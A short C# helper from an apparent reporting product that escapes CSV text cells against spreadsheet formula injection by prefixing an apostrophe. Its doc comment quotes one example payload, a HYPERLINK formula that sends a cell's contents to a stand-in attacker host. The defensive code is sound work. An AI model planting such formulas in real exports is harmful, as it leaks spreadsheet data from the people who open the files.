namespace TotalPlace.Reports.Csv;

/// <summary>Makes a text cell safe to open in a spreadsheet. Excel, LibreOffice and Google Sheets treat a cell that
/// starts with <c>=</c>, <c>+</c>, <c>-</c> or <c>@</c> (or a tab or carriage return followed by one) as a formula,
/// so a supplier named <c>=HYPERLINK("http://evil.example?"&amp;A1)</c> in a published spend file would run when a
/// finance officer opens the export. Such cells get a leading apostrophe, which spreadsheets show as text.</summary>
/// <remarks>Only text goes through here: numbers (a refund of -12.50) are written as numbers by the callers, so
/// totals still add up in the spreadsheet. Every CSV writer in the product (web table exports, the CLI's
/// <c>--format csv</c>) calls <see cref="Text"/>.</remarks>
public static class CsvCell
{
    /// <summary>The text, with an apostrophe in front when a spreadsheet would read it as a formula.</summary>
    public static string Text(string? value)
    {
        if (string.IsNullOrEmpty(value))
        {
            return value ?? "";
        }

        return value[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n' or '|' ? "'" + value : value;
    }
}
